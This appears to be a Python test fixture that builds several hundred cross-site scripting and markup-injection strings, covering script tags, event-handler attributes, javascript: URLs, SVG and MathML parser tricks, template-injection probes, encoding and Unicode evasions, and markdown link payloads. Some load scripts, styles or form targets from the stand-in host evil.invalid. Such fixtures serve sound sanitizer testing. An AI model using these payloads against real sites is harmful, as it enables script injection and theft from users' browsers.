"""Text that would be more than text if a page took it for markup: some hundreds of strings, by construct.

Each would raise a dialog, ask for a script at evil.invalid, or leave an element or an attribute of its own behind.
"""

from itertools import product

RUN = "alert(1)"
FAR = "//evil.invalid/x.js"
TAGS = ["img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "embed", "marquee", "math", "a"]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbeforeinput"]
HREFS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)"]
HREFS += ["\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", FAR]
HREFS += ["&#106;avascript:alert(1)", "javascript&colon;alert(1)", "blob:null/1", "javascript://%0aalert(1)"]
BREAKS = ["", '"', "'", ">", '">', "'>", "-->", "]]>", "*/", "</textarea>", "</title>", "</style>", "</script>"]
BREAKS += ["</template>", "</noscript>", "</select>", "</option>", "</p>", "</li>", "</time>", "</summary>", "\\", "`"]
SCRIPTS = [
    "<script>alert(1)</script>",
    f"<script src={FAR}></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<script type=module>import('//evil.invalid/x.js')</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=//evil.invalid/x.js />",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '{"a":"</script><script>alert(1)</script>"}',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
]
ELEMENTS = [
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<link rel=prefetch href=//evil.invalid/x>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid/>",
    "<style>*{background:url(//evil.invalid/x)}</style>",
    "<style>@import '//evil.invalid/x.css'</style>",
    "<form action=//evil.invalid/><button>Send</button></form>",
    "<button formaction=javascript:alert(1)>Send</button>",
    "<input type=image src=//evil.invalid/x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.invalid/x></object>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<dialog open>hello</dialog>",
    "<room-timeline></room-timeline>",
    "<message-composer room=x></message-composer>",
    "<leave-now></leave-now>",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<slot name=x><img src=x onerror=alert(1)></slot>",
    "<portal src=//evil.invalid/></portal>",
    "<frameset onload=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<div style=position:fixed;inset:0>hello</div>",
    "<p hidden>hello</p>",
    "<b id=main>hello</b>",
    "<a name=body>hello</a><a name=body id=x>there</a>",
    "<img name=createElement><form name=body></form>",
]
FOREIGN = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>hello</text></a>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math href=javascript:alert(1)>hello</math>",
    "<math><mi xlink:href=javascript:alert(1)>hello</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
]
TEMPLATES = [
    "{{7*7}}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}",
    "{#hello#}",
    "${7*7}",
    "#{7*7}",
]
TEMPLATES += ["<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "[[7*7]]", "%(name)s", "%s%s%s", "{0}{name}"]
TEMPLATES += ["${alert(1)}", "`${alert(1)}`", "{{'<img src=x onerror=alert(1)>'|safe}}", "{% csrf_token %}", "@{7*7}"]
ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0000060img src=x onerror=alert(1)>",
    "&ltimg src=x onerror=alert(1)&gt",
    "&amp;lt;b&amp;gt;hello",
    "&NewLine;&Tab;&colon;hello",
    "&quot; onfocus=alert(1) autofocus=&quot;",
    "&apos;-alert(1)-&apos;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "¼script¾alert(1)¼/script¾",
    "＜script＞alert(1)＜/script＞",
    "‹img src=x onerror=alert(1)›",
    "<\u200bscript>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "<i\u0307mg src=x onerror=alert(1)>",
    "<ſcript>alert(1)</ſcript>",
    "<ımg src=x onerror=alert(1)>",
    "😀<img src=x onerror=alert(1)>😀",
    "\ufeff<script>alert(1)</script>",
    "a\u2028<script>alert(1)</script>\u2029b",
    "<img src=x onerror=alert(1)\u0085>",
]
MARKDOWN = [
    "[hello](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)",
]
MARKDOWN += ["```<img src=x onerror=alert(1)>```", 'http://evil.invalid/"onmouseover="alert(1)', "www.evil.invalid"]
MARKDOWN += [
    "mailto:a@evil.invalid?body=<script>alert(1)</script>",
    "https://evil.invalid/<img src=x onerror=alert(1)>",
]


def every() -> list[str]:
    """All of them, each once, in an order that mixes the constructs."""
    built = [f"<{tag} src=x href=x {event}={RUN} autofocus tabindex=1>" for tag, event in product(TAGS, EVENTS)]
    built += [f"{opening}<img src=x onerror={RUN}>" for opening in BREAKS]
    built += [f"{quote} {event}={RUN} autofocus x={quote}" for quote, event in product("\"'` ", EVENTS)]
    built += [f"<{tag} href='{href}'>hello</{tag}>" for tag, href in product(("a", "area", "form action=x"), HREFS)]
    built += [f"<iframe src='{href}'></iframe>" for href in HREFS]
    built += [f"{opening}<svg onload={RUN}>" for opening in BREAKS]
    return list(dict.fromkeys([*SCRIPTS, *ELEMENTS, *FOREIGN, *TEMPLATES, *ENTITIES, *MARKDOWN, *built]))


def sample(count: int) -> list[str]:
    """So many of them, from all over."""
    found = every()
    return found[:: max(1, len(found) // count)][:count]
